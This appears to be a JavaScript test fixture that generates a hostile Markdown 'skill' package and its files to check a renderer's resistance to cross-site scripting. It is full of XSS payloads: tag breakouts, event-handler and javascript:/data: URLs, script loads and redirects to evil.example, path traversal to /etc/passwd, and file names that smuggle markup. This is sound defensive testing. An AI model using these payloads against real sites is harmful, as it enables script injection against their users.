// The text of a skill that tries to run something, to load something, or to leave the frame of its page.
//
// The kinds are those of OWASP's cheat sheets on cross-site scripting, as far as Markdown, SVG, file names, and frontmatter
// can carry them.

/** Markup that ends what is around it, and calls `alert`. */
export const BREAKOUT =
  "</title></textarea></style></noscript></code></pre></article></main><script>alert(1)</script><img src=x onerror=alert(1)>";

/** Elements and attributes that run, load, or replace something. */
const MARKUP = [
  BREAKOUT,
  "<ScRiPt/src=//evil.example/x.js></ScRiPt>",
  "<script\u000dsrc=//evil.example/x.js></script>",
  "<<script>alert(1)//<</script>",
  "<svg/onload=alert(1)><script>alert(1)</script><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<iframe src=\"https://evil.example\" srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
  "<object data=\"data:text/html,<script>alert(1)</script>\"></object><embed src=javascript:alert(1)>",
  "<base href=\"https://evil.example/\">",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
  "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/x.css';*{display:none}</style>",
  "<form action=https://evil.example><input name=getElementById autofocus onfocus=alert(1)><button>Search</button></form>",
  "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio><body onload=alert(1)>",
  "<a href=\"jav&#x09;ascript:alert(1)\" style=\"position:fixed;inset:0\">x</a>",
  "<div id=Search></div><img name=body><a id=skills></a><form id=Main></form>",
  "<plaintext><xmp><textarea><template>",
  "<!-- --!><script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE html>",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62; +ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% include \"base.html\" %}",
];

/** Addresses of links and images that run or load something. */
const ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java&#x09;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "&#106;avascript&colon;alert(1)",
  "\u0001javascript:alert(1)",
  "javascript://https://a.example/%0aalert(1)",
  "vbscript:msgbox(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg/onload=alert(1)>",
  "blob:https://a.example/x",
  "file:///etc/passwd",
  "view-source:https://a.example",
  "//evil.example/x",
  "/\\evil.example/x",
  "https:evil\"onmouseover=\"alert(1)",
  "../../../../../../etc/passwd",
  "x\"onerror=\"alert(1)",
];

/** Words that are also names of the page's own elements, or of JavaScript's. */
const WORDS = ["Main", "Search", "SearchInput", "Theme", "skills", "body", "constructor", "__proto__", "L1", "Files"];

/** Invisible characters, and those that change the order of the text around them. */
const CHARACTERS = "admin\u202etxt.exe \u2066x\u2069 \u{e0041}\u{e0042} \u0007 \u2028 z\u0335\u0311\u0343\u0354a\u0336\u0312l\u0334\u030dg\u0337\u0310o";

/** Text for a value of YAML in single quotes. */
const yaml = (text) => `'${text.replaceAll("'", "''")}'`;

export function hostileMarkdown(name) {
  const blocks = MARKUP.map((markup) => `${markup}\n\nInline ${markup} and \`${markup.replaceAll("`", "")}\`.`);
  const links = ADDRESSES.flatMap((address) => [
    `- [link](${address}) [angle](<${address}>) [title](${address} "x\\" onclick=\\"alert(1)") ![image](${address}) <${address}>`,
  ]);
  const value = yaml(BREAKOUT);
  return `---
name: ${name}
description: ${yaml(`Tries to leave its page. Use it ${BREAKOUT} ${CHARACTERS.replaceAll("\u0007", "")} "quoted" \`code\` {{7*7}}`)}
license: ${value}
compatibility: ${value}
allowed-tools: ${value}
metadata:
  author: ${value}
  version: ${value}
---

# ${BREAKOUT}

## When to use

- ${BREAKOUT}
- ${CHARACTERS}

${WORDS.map((word) => `## ${word}`).join("\n\n")}

${blocks.join("\n\n")}

${links.join("\n")}

[reference]: javascript:alert(1) "x"
[reference] [reference][] ![reference]

| ${MARKUP[1]} | b |
|---|:-:|
| ${MARKUP[4]} | ${MARKUP[8]} |

- [ ] ${MARKUP[0]}

Note[^"><img src=x onerror=alert(1)>] and[^1].

[^1]: ${BREAKOUT}

[^1]: ${BREAKOUT}

[^"><img src=x onerror=alert(1)>]: x

\`\`\`html"><script>alert(1)</script>
${MARKUP.join("\n")}
\`\`\`

\`\`\`javascript
document.body.innerHTML = "</code></pre>${BREAKOUT}";
\`\`\`

    ${BREAKOUT}

> ${BREAKOUT}
> > ${BREAKOUT}

See \`page.html\`, [the drawing](assets/drawing.svg), ![drawing](assets/drawing.svg), ![photo](assets/photo.png),
![not an image](assets/script.png), and [a name](references/&lt;script&gt;alert(1)&lt;/script&gt;.md).
`;
}

const PNG = Buffer.from("89504e470d0a1a0a", "hex");
const SVG =
  "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script><image href=\"https://evil.example/x.png\"/></svg>\n";

/** The files of the skill but its `SKILL.md`, with names that mdskill accepts. */
export const hostileFiles = {
  "page.html": `<!doctype html><script>alert(1)</script>${BREAKOUT}\n`,
  "site.js": "alert(1);\n",
  "style.css": "* { display: none }\n",
  "index.html/index.html.md": BREAKOUT,
  "assets/drawing.svg": SVG,
  // The bytes of an image, and then a page; and a page with the name of an image.
  "assets/photo.png": Buffer.concat([PNG, Buffer.from(BREAKOUT)]),
  "assets/script.png": BREAKOUT,
  "references/&lt;script&gt;alert(1)&lt;script&gt;.md": BREAKOUT,
  "references/&#60;img src=x onerror=alert(1)&#62;.md": BREAKOUT,
  "references/%3Cscript%3Ealert(1)%3C%2Fscript%3E.md": BREAKOUT,
  "references/..%2f..%2f..%2findex.html": BREAKOUT,
  "references/x' onclick='alert(1).md": BREAKOUT,
  "references/{{7+7}}${7+7}.md": BREAKOUT,
  "references/#L1;alert(1).md": BREAKOUT,
  "references/`alert(1)`.py": `# ${BREAKOUT}\nx = "${CHARACTERS}"\n`,
  [`references/${"long-".repeat(20)}name.txt`]: `${"x".repeat(5000)}\n`,
};
